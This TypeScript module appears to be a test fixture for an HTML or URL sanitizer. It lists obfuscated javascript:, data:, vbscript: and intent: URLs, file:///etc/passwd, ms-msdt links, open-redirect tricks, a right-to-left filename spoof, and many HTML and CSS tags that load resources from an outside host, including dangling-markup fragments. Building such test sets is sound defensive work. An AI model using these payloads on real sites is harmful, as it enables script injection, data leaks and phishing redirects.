import { act } from './acting.ts'

/** Addresses that act, fetch or lead elsewhere. */
export const addressesTo = (elsewhere: string): string[] => [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  `java\nscript:${act}`,
  `java\tscript:${act}`,
  `\u0001javascript:${act}`,
  ` \u00a0javascript:${act}`,
  `\u2028javascript:${act}`,
  `javascript&colon;${act}`,
  `javascript://${new URL(elsewhere).host}/%0a${act}`,
  `view-source:javascript:${act}`,
  `feed:javascript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${act}"><script>${act}</script></svg>`,
  `data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">${act}</script>`,
  `DATA:TEXT/HTML,<script>${act}</script>`,
  `data:,${act}`,
  'blob:null/0b6a1c8e-4f1d-4c52-9d0a-2f7b6f3c1a55',
  `blob:${elsewhere}/0b6a1c8e-4f1d-4c52-9d0a-2f7b6f3c1a55`,
  `filesystem:${elsewhere}/temporary/x.html`,
  `vbscript:${act}`,
  `livescript:${act}`,
  'about:blank',
  'about:srcdoc',
  `intent://x#Intent;scheme=javascript;S.browser_fallback_url=${elsewhere}/intent;end`,
  'market://details?id=evil',
  'itms-apps://evil',
  'file:///etc/passwd',
  'content://com.android.chrome.FileProvider/x',
  'chrome://settings',
  'ws://localhost/',
  `cid:${act}`,
  `jar:${elsewhere}/x.jar!/x.html`,
  'sms:+66800000000?body=x',
  'liff://app/x',
  'ms-msdt:/id',
  `${elsewhere}/pixel.png`,
  `${elsewhere.replace(/^https?:/, '')}/pixel.png`,
  `${elsewhere.replace(/^https?:\/\//, '\\\\\\\\')}/pixel.png`,
  `${elsewhere.replace('//', '')}/pixel.png`,
  `http://localhost@${new URL(elsewhere).host}/pixel.png`,
  `/\\${new URL(elsewhere).host}/pixel.png`,
  `/\t/${new URL(elsewhere).host}/pixel.png`,
  '/api/bonus/clear',
  '/api/refund/receive?x=1',
  '../../api/invite/bonus',
  '//',
  'http://',
  'http://[',
  '',
  ' ',
  '#',
  '?dialog=logout',
  '%',
  '\u202egnp.exe',
]

/** Elements that load what an address names, or lead there when they are tapped. */
const loading = [
  (address: string) => `<a href="${address}">กด</a>`,
  (address: string) => `<img src="${address}">`,
  (address: string) => `<image src="${address}" xlink:href="${address}">`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) =>
    `<svg><a xlink:href="${address}"><text>กด</text></a><image href="${address}"/><use href="${address}#x"/></svg>`,
  (address: string) => `<math href="${address}"><mi xlink:href="${address}">กด</mi></math>`,
  (address: string) => `<area href="${address}"><link rel=stylesheet href="${address}"><base href="${address}">`,
  (address: string) => `<form action="${address}"><button formaction="${address}">กด</button></form>`,
  (address: string) => `<object data="${address}"></object><embed src="${address}">`,
  (address: string) =>
    `<video src="${address}" poster="${address}"><source src="${address}"><track src="${address}"></video>`,
  (address: string) =>
    `<p background="${address}" style="background:url('${address}');background-color:url(${address})">คำ</p>`,
  (address: string) =>
    `<a href=/ ping="${address}" attributionsrc="${address}">กด</a><img srcset="${address} 2x" lowsrc="${address}">`,
]

/** Every address in two of these, so that each address and each element is met. */
export const loadsFrom = (elsewhere: string): string[] =>
  addressesTo(elsewhere).flatMap((address, at) =>
    [0, 1].map((turn) => loading[(at + turn * 5) % loading.length]?.(address.replaceAll('"', '&quot;')) ?? ''),
  )

/** Everything that a page can be told to fetch by itself. */
export const fetches = (elsewhere: string): string[] => [
  ...'stylesheet icon preload prefetch dns-prefetch preconnect prerender modulepreload manifest'
    .split(' ')
    .map((rel) => `<link rel="${rel}" as=image href="${elsewhere}/${rel}">`),
  `<style>@import "${elsewhere}/1.css"; * { background: url(${elsewhere}/2.png) }</style>`,
  `<style>@font-face { font-family: x; src: url(${elsewhere}/x.woff) } p { font-family: x }</style><p>คำ</p>`,
  `<p style="background:url(${elsewhere}/1.png)">คำ</p>`,
  `<p style="color:red;background-color:image-set('${elsewhere}/1.png' 1x)">คำ</p>`,
  `<p style="color:rgb(1,2,3) url(${elsewhere}/1.png)">คำ</p>`,
  `<p style="list-style:url(${elsewhere}/1.png);cursor:url(${elsewhere}/1.png),auto">คำ</p>`,
  `<p style="text-decoration:underline url(${elsewhere}/1.png)">คำ</p>`,
  `<p style="COLOR:\\75rl(${elsewhere}/1.png)">คำ</p>`,
  `<svg><style>@import "${elsewhere}/svg.css"</style><image href="${elsewhere}/1.png"/><filter><feImage href="${elsewhere}/2.png"/></filter></svg>`,
  `<input type=image src="${elsewhere}/1.png"><button style="background:url(${elsewhere}/1.png)">กด</button>`,
  `<picture><source srcset="${elsewhere}/1.png"><img src="${elsewhere}/2.png"></picture>`,
  `<audio src="${elsewhere}/1.mp3" autoplay></audio><bgsound src="${elsewhere}/1.mp3">`,
  `<table background="${elsewhere}/1.png"><tr><td background="${elsewhere}/2.png">คำ</table>`,
  `<body background="${elsewhere}/1.png">คำ</body>`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}/refresh">`,
  `<meta http-equiv=Content-Security-Policy content="default-src 'none'; report-uri ${elsewhere}/report">`,
  `<html manifest="${elsewhere}/cache">คำ</html>`,
  `<portal src="${elsewhere}/portal"></portal><fencedframe src="${elsewhere}/frame"></fencedframe>`,
  `<img src="${elsewhere}/?`,
  `<a href="${elsewhere}/?' target='`,
]
